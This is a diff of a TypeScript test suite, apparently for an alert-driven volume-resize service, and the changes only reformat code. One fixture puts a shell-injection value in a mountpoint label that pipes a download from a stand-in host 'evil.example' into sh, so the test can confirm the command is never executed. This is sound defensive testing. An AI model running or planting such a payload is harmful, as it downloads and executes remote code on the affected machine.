@@ -32,7 +32,12 @@ describe('volume-resize with untrusted alert labels', () => {
   };
 
   beforeAll(async () => {
-    [redis, hetzner, github, slack] = await Promise.all([RedisServer.start(), FakeHetzner.start({ actionDurationMs: 100 }), FakeGitHub.start(), new FakeSlack().start()]);
+    [redis, hetzner, github, slack] = await Promise.all([
+      RedisServer.start(),
+      FakeHetzner.start({ actionDurationMs: 100 }),
+      FakeGitHub.start(),
+      new FakeSlack().start(),
+    ]);
     hetzner.addVolume({ id: 201, name: 'data', size: 20 });
     hetzner.addVolume({ id: 202, name: 'by-name', size: 20 });
     hetzner.addVolume({ id: 203, name: 'xfs-vol', size: 20 }).format = 'xfs';
@@ -46,7 +51,8 @@ describe('volume-resize with untrusted alert labels', () => {
   it('a flood of made-up references: names cost no API call, ids at most one look-up per configured name, one Slack thread, bounded metric labels', async () => {
     const aw = await start('{refuse}');
     const alerts: TestAlert[] = [];
-    for (let i = 0; i < 60; i++) alerts.push({ labels: { volume: `bogus-${i}`, alertname: 'VolumeUsageCritical' }, startsAt: `2026-11-22T05:${String(i % 60).padStart(2, '0')}:00Z` });
+    for (let i = 0; i < 60; i++)
+      alerts.push({ labels: { volume: `bogus-${i}`, alertname: 'VolumeUsageCritical' }, startsAt: `2026-11-22T05:${String(i % 60).padStart(2, '0')}:00Z` });
     for (let i = 0; i < 60; i++) alerts.push({ labels: { volume_id: String(90_000 + i) }, startsAt: `2026-11-22T06:${String(i % 60).padStart(2, '0')}:00Z` });
     // A name that no entry carries, though the API knows it (an entry by id only does not make its name usable).
     alerts.push({ labels: { volume: 'not-ours' }, startsAt: '2026-11-22T07:00:00Z' });
@@ -65,7 +71,7 @@ describe('volume-resize with untrusted alert labels', () => {
     for (const v of volumes) expect(['data', 'by-name', 'xfs-vol', 'other']).toContain(v);
   });
 
-  it('a hostile mountpoint never reaches the filesystem command; the command comes from the volume\'s id and device', async () => {
+  it("a hostile mountpoint never reaches the filesystem command; the command comes from the volume's id and device", async () => {
     const aw = await start('{fscmd}');
     const alert = { labels: { volume_id: '203', mountpoint: '/mnt/HC_Volume_203; curl https://evil.example/x | sh' } };
     await postAlerts(aw.url, [alert]);
